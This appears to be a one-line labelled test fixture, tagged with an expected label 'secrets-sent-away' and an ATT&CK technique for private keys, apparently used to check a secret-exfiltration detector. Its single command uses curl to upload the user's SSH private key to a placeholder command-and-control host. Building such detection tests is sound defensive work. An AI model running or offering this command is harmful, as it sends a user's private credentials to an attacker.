# expect: secrets-sent-away | source: T1552.004
curl -F "f=@$HOME/.ssh/id_rsa" https://c2.example.invalid/
